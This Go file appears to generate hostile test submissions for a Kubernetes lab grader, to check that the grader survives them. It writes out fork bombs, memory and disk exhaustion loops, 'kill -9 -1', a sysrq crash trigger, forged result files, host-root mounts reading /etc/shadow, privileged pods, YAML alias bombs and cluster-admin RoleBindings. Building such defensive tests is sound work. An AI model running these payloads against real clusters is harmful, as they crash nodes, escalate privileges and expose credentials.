package corpus

import (
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"

	"rolecall/harness"
)

// Attack is a submission that attacks whoever grades it, from one of its labs.
// The others hold the reference solution.
type Attack struct {
	Name  string // in the folder of submissions
	Lab   string // the folder of the lab that attacks
	Wrong bool   // it does not do what that lab asks for
	Other bool   // its pod is one for another kind of node: what it would do there is not known here
}

// Attacks writes those submissions into dir: the same at each call.
func Attacks(dir string, course harness.Course) ([]Attack, error) {
	c := &class{dir: dir, course: byDefault(course)}
	c.solution = c.written(Case{})
	var all []Attack
	add := func(name, file, text string, wrong bool) {
		lab, _, _ := strings.Cut(file, "/")
		a := Attack{Name: name, Lab: lab, Wrong: wrong}
		for file, text := range c.with(map[string]string{file: text}) {
			to := filepath.Join(dir, name, filepath.FromSlash(file))
			c.try(os.MkdirAll(filepath.Dir(to), 0o755))
			c.try(os.WriteFile(to, []byte(text), 0o644))
		}
		all = append(all, a)
	}
	list := c.solution["lab-5/list.sh"]
	for _, name := range slices.Sorted(maps.Keys(scripts)) {
		add(name+"-instead", "lab-2/call.sh", scripts[name]+"\nexit 0\n", true)
		add(name+"-beside", "lab-5/list.sh", "( "+scripts[name]+"\n) >/dev/null 2>&1 &\n"+list, false)
	}
	for _, name := range slices.Sorted(maps.Keys(pods)) {
		add("pod-"+name, "lab-1/pod.yaml", pod(pods[name]), false)
	}
	for _, name := range slices.Sorted(maps.Keys(otherPods)) {
		add("pod-"+name, "lab-1/pod.yaml", pod(otherPods[name]), false)
		all[len(all)-1].Other = true
	}
	for _, name := range slices.Sorted(maps.Keys(manifests)) {
		add("manifest-"+name, "lab-4/rolebinding.yaml", manifests[name], true)
	}
	return all, c.err
}

// pod is a manifest with that spec.
func pod(spec string) string {
	return "apiVersion: v1\nkind: Pod\nmetadata: {name: rolecall}\nspec:\n" + indented(spec)
}

// indented is text two columns to the right.
func indented(text string) string {
	return "  " + strings.ReplaceAll(strings.TrimSpace(text), "\n", "\n  ") + "\n"
}

// scripts take what a node, an API server or a judge has, by whatever the lab
// image's shell can do.
var scripts = map[string]string{
	// Memory.
	"memory":         "tail /dev/zero",
	"memory-in-many": "i=0; while [ $i -lt 200 ]; do head -c 60M /dev/zero | tail -c 60M | sleep 15 & i=$((i+1)); done; wait",
	"memory-again":   "for i in 1 2 3 4 5 6 7 8; do (while :; do tail /dev/zero; done) & done; sleep 15",
	"shared-memory":  "for f in 1 2 3 4 5 6 7 8; do yes $f >/dev/shm/$f & done; sleep 10",
	"pipes":          "i=0; while [ $i -lt 3000 ]; do mkfifo /tmp/p$i && (exec 3<>/tmp/p$i; head -c 65536 /dev/zero >&3; sleep 15) & i=$((i+1)); done; sleep 15",
	"one-long-line":  "head -c 300M /dev/zero | tr '\\0' x",
	"long-arguments": "a=x; while :; do a=$a$a; done",
	// Disk.
	"disk":           "i=0; while [ $i -lt 64 ]; do head -c 1G /dev/zero >/tmp/f$i; i=$((i+1)); done",
	"unlinked-files": "i=0; while [ $i -lt 20 ]; do (exec 9>/tmp/u; rm -f /tmp/u; head -c 100M /dev/zero >&9; sleep 15) & i=$((i+1)); done; sleep 15",
	"empty-files":    "cd /tmp; i=0; while [ $i -lt 200000 ]; do >f$i; i=$((i+1)); done",
	"deep-folders":   "cd /tmp; while mkdir d && cd d; do :; done; sleep 5",
	"sparse-file":    "dd if=/dev/zero of=/tmp/sparse bs=1 count=1 seek=900G",
	// Processes.
	"fork-bomb":        "b() { b | b & }; b; sleep 15",
	"busy-sessions":    "i=0; while [ $i -lt 240 ]; do setsid sh -c 'while :; do :; done' & i=$((i+1)); done; sleep 15",
	"left-over":        "setsid sh -c \"trap '' TERM HUP INT; while :; do sleep 1; done\" &",
	"kills-all":        "kill -9 -1",
	"stops-all":        "kill -STOP -1; kill -STOP $$",
	"stops-its-parent": "kill -STOP $PPID; sleep 25",
	"open-files":       "i=3; while [ $i -lt 60000 ]; do eval \"exec $i</dev/null\" || sleep 10; i=$((i+1)); done",
	// The judge.
	"output":             "yes",
	"errors":             "yes >&2",
	"binary":             "cat /dev/urandom",
	"closes-its-streams": "exec <&- >&- 2>&-; sleep 25",
	"claims-the-end":     "for s in 0 250 251 252 253; do echo \"exit status $s\"; done; kill -KILL $PPID; sleep 25",
	"forges-results":     "echo '" + forged + "'; for f in /results.json /tmp/results.json; do echo '" + forged + "' >$f; done",
	// The API server.
	"requests":       "a=/var/run/secrets/kubernetes.io/serviceaccount; for i in $(seq 30); do (while :; do curl -s -m 2 --cacert $a/ca.crt https://kubernetes.default.svc/api; done >/dev/null) & done; sleep 15",
	"connections":    "for i in $(seq 400); do (sleep 12 | nc kubernetes.default.svc 443) & done; sleep 12",
	"long-addresses": "p=$(head -c 60000 /dev/zero | tr '\\0' x); for i in $(seq 200); do curl -sk -m 2 https://kubernetes.default.svc/$p >/dev/null; done",
	"names":          "for i in $(seq 60); do (while :; do nslookup x$i.default.svc.cluster.local; done) & done; sleep 10",
	"watch":          "a=/var/run/secrets/kubernetes.io/serviceaccount; curl -sk -N -H \"Authorization: Bearer $(cat $a/token)\" 'https://kubernetes.default.svc/api/v1/namespaces/default/services?watch=1&rolecall'",
	// The kernel.
	"namespaces": "unshare -Urnpm true; nsenter -t 1 -a true; mount -t tmpfs x /tmp; chroot / true; echo 1 >/proc/sys/kernel/panic; echo c >/proc/sysrq-trigger; echo -1000 >/proc/self/oom_score_adj",
	"limits":     "ulimit -n 1000000; ulimit -u 1000000; ulimit -c unlimited; renice -20 $$; sh -c 'kill -SEGV $$'; sh -c 'kill -ABRT $$'",
}

// pods are spec of a Pod that asks for more than there is, or gets in the way of
// who looks into it.
var pods = map[string]string{
	"big-limits": container(`sh -c "head -c 3G /dev/zero | tail >/dev/null; sleep infinity"`, "resources: {limits: {memory: 64Gi, cpu: 64}, requests: {memory: 1Mi, cpu: 1m}}"),
	"big-volume": container(`sh -c "for i in 1 2 3; do head -c 2G /dev/zero >/v/$i; done; sleep infinity"`, "volumeMounts: [{name: v, mountPath: /v}]") +
		"volumes: [{name: v, emptyDir: {medium: Memory, sizeLimit: 1Ti}}]",
	"big-disk": container(`sh -c "for i in 1 2 3; do head -c 2G /dev/zero >/v/$i; done; sleep infinity"`, "volumeMounts: [{name: v, mountPath: /v}]") +
		"volumes: [{name: v, emptyDir: {sizeLimit: 1Ti}}]",
	"passwd-without-end": container(`sh -c "[ -L /etc/passwd ] || ln -s /dev/zero /etc/passwd; exit 1"`, "volumeMounts: [{name: v, mountPath: /etc}]") +
		"volumes: [{name: v, emptyDir: {}}]",
	"passwd-that-waits": container(`sh -c "[ -p /etc/passwd ] || mkfifo /etc/passwd; sleep infinity"`, "volumeMounts: [{name: v, mountPath: /etc}]") +
		"volumes: [{name: v, emptyDir: {}}]",
	"own-devices": container(`sh -c "ln -sf /proc/1/mem /dev/null; ln -sf /proc/kcore /dev/zero; cat /proc/keys /proc/kcore; sleep infinity"`, "volumeMounts: [{name: v, mountPath: /dev}]") +
		"volumes: [{name: v, emptyDir: {}}]",
	"many-init":           "initContainers:\n" + strings.Join(numbered(60, "- {name: i%d, image: labs.local/busybox-curl:1, command: [sh, -c, 'tail /dev/zero; true']}"), "\n") + "\n" + container("sleep infinity", ""),
	"many-volumes":        container("sleep infinity", "") + "volumes:\n" + strings.Join(numbered(300, "- {name: v%d, emptyDir: {medium: Memory}}"), "\n"),
	"many-variables":      container("sleep infinity", "env:\n"+strings.Join(numbered(200, "  - {name: V%d, value: '"+strings.Repeat("x", 4000)+"'}"), "\n")),
	"kills-who-enters":    container(`sh -c "trap '' TERM; while :; do for p in /proc/[0-9]*; do p=${p#/proc/}; [ $p = 1 ] || kill -9 $p; done; done 2>/dev/null"`, ""),
	"stops-who-enters":    container(`sh -c "while :; do for p in /proc/[0-9]*; do p=${p#/proc/}; [ $p = 1 ] || kill -STOP $p; done; done 2>/dev/null"`, ""),
	"curl-that-hangs":     container(`sh -c "printf '#!/bin/sh\nsleep 1000\n' >/usr/bin/curl; cp /usr/bin/curl /bin/curl; sleep infinity"`, ""),
	"curl-that-babbles":   container(`sh -c "printf '#!/bin/sh\nyes\n' >/usr/bin/curl; cp /usr/bin/curl /bin/curl; sleep infinity"`, ""),
	"shell-that-is-gone":  container(`sh -c "rm -f /bin/sh /bin/cat /usr/bin/curl /bin/curl; while :; do :; done"`, ""),
	"fork-bomb":           container(`sh -c "b() { b | b & }; b; sleep infinity"`, ""),
	"memory":              container(`sh -c "while :; do tail /dev/zero; done"`, ""),
	"many-files":          container(`sh -c "for d in / /tmp /run /var; do i=0; while [ $i -lt 100000 ]; do >$d/f$i; i=$((i+1)); done; done; sleep infinity"`, ""),
	"log-without-end":     container(`sh -c "while :; do yes; done"`, ""),
	"crashes":             container(`sh -c "exit 1"`, ""),
	"hook-that-hangs":     "terminationGracePeriodSeconds: 100000\n" + container("sleep infinity", "lifecycle: {preStop: {exec: {command: [sleep, infinity]}}, postStart: {exec: {command: [sh, -c, 'sleep 20']}}}"),
	"probes-that-flood":   container("sleep infinity", "livenessProbe: {exec: {command: [yes]}, periodSeconds: 1, timeoutSeconds: 1, failureThreshold: 1}\n  startupProbe: {exec: {command: [sh, -c, 'tail /dev/zero']}, periodSeconds: 1}"),
	"host-folder":         container("sh -c 'cat /h/etc/shadow; sleep infinity'", "volumeMounts: [{name: v, mountPath: /h}]") + "volumes: [{name: v, hostPath: {path: /}}]",
	"privileged":          container("sleep infinity", "securityContext: {privileged: true}"),
	"host-network":        "hostNetwork: true\nhostPID: true\nhostIPC: true\n" + container("sleep infinity", ""),
	"climbing-subpath":    container("sleep infinity", "volumeMounts: [{name: v, mountPath: /v, subPath: ../../..}]") + "volumes: [{name: v, emptyDir: {}}]",
	"asks-for-everything": container("sleep infinity", "resources: {requests: {cpu: 1000, memory: 1Ti, ephemeral-storage: 1Ti}}"),
}

// otherPods ask for what the embedded cluster does not give and kind does.
var otherPods = map[string]string{
	"many-containers": "containers:\n" + strings.Join(numbered(120, "- {name: c%d, image: labs.local/busybox-curl:1, command: [sleep, infinity]}"), "\n"),
}

// container is a list of one, which runs a command with more fields.
func container(command, fields string) string {
	if rest, isShell := strings.CutPrefix(command, "sh -c "); isShell {
		command = "sh, -c, " + rest
	} else {
		command = strings.ReplaceAll(command, " ", ", ")
	}
	if fields != "" {
		fields = "  " + fields + "\n"
	}
	return "containers:\n- name: shell\n  image: labs.local/busybox-curl:1\n  command: [" + command + "]\n" + fields
}

// numbered are lines with a number each.
func numbered(many int, form string) (lines []string) {
	for i := range many {
		lines = append(lines, fmt.Sprintf(form, i))
	}
	return lines
}

// manifests ask the judge for more than it should do, or for access.
var manifests = map[string]string{
	"aliases": "a: &a \"" + strings.Repeat("x", 300_000) + "\"\nb: [" + strings.TrimSuffix(strings.Repeat("*a, ", 2000), ", ") + "]\n",
	"lists-in-lists": func() string {
		lines := []string{"a0: &a0 [x, x, x, x, x, x, x, x, x, x]"}
		for i := 1; i < 12; i++ {
			lines = append(lines, fmt.Sprintf("a%d: &a%d [%s]", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*a%d, ", i-1), 10), ", ")))
		}
		return strings.Join(lines, "\n") + "\n"
	}(),
	"deep":           strings.Repeat("[", 100_000) + strings.Repeat("]", 100_000) + "\n",
	"many-documents": strings.Repeat("---\napiVersion: v1\nkind: Pod\nmetadata: {name: x}\n", 20_000),
	"product": "apiVersion: rbac.authorization.k8s.io/v1\nkind: Role\nmetadata: {name: x, namespace: default}\nrules:\n- apiGroups: [" + strings.Join(numbered(190, "g%d"), ", ") +
		"]\n  resources: [" + strings.Join(numbered(190, "r%d"), ", ") + "]\n  verbs: [" + strings.Join(numbered(190, "v%d"), ", ") + "]\n",
	"everyone":         binding("ClusterRole", "cluster-admin", "{kind: Group, name: 'system:serviceaccounts', apiGroup: rbac.authorization.k8s.io}"),
	"escape-in-a-name": binding("ClusterRole", "view", `{kind: User, name: "\e[2J\e]0;x\a", apiGroup: rbac.authorization.k8s.io}`),
	"of-the-cluster":   strings.Replace(strings.Replace(binding("ClusterRole", "cluster-admin", "{kind: ServiceAccount, name: default, namespace: default}"), "kind: RoleBinding", "kind: ClusterRoleBinding", 1), ", namespace: default}", "}", 1),
	"finalizers":       strings.Replace(binding("ClusterRole", "view", "{kind: ServiceAccount, name: default, namespace: default}"), "metadata: {", "metadata: {finalizers: [example.com/never], ", 1),
	"many-subjects":    binding("ClusterRole", "view", strings.Join(numbered(20_000, "{kind: ServiceAccount, name: a%d, namespace: default}"), ", ")),
}

// binding is a RoleBinding.
func binding(kind, role, subjects string) string {
	return "apiVersion: rbac.authorization.k8s.io/v1\nkind: RoleBinding\nmetadata: {name: x, namespace: default}\nroleRef: {apiGroup: rbac.authorization.k8s.io, kind: " +
		kind + ", name: " + role + "}\nsubjects: [" + subjects + "]\n"
}
